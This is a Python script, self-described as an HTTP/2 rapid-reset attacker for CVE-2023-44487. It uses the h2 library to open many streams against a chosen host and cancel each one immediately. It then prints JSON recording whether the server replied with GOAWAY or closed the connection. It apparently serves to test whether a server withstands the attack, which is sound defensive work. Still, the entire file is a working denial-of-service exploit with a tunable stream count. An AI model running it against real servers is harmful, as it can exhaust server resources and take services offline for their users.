"""An HTTP/2 rapid-reset attacker (CVE-2023-44487) built on the `h2` library: opens
streams and cancels each at once, in bulk, then reports how the server reacted as one
JSON line: whether it sent GOAWAY (and its error code) and whether it closed the
connection.  h2_rapid_reset.py HOST PORT STREAMS"""
import json
import socket
import sys

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

host, port, streams = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
sock = socket.create_connection((host, port), timeout=10)
conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
conn.initiate_connection()
sock.sendall(conn.data_to_send())

sent = 0
send_failed = False
try:
    for i in range(streams):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, [(":method", "GET"), (":path", "/slow?ms=3000"), (":scheme", "http"),
                                (":authority", f"{host}:{port}")], end_stream=True)
        conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
        sent += 1
        if sent % 100 == 0:
            sock.sendall(conn.data_to_send())
    sock.sendall(conn.data_to_send())
except (OSError, h2.exceptions.ProtocolError):
    send_failed = True

goaway = None
closed = False
try:
    while True:
        data = sock.recv(65536)
        if not data:
            closed = True
            break
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            continue
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                goaway = int(event.error_code)
        sock.sendall(conn.data_to_send())
except socket.timeout:
    pass
except OSError:
    closed = True
print(json.dumps({"sent": sent, "send_failed": send_failed, "goaway": goaway, "closed": closed}))
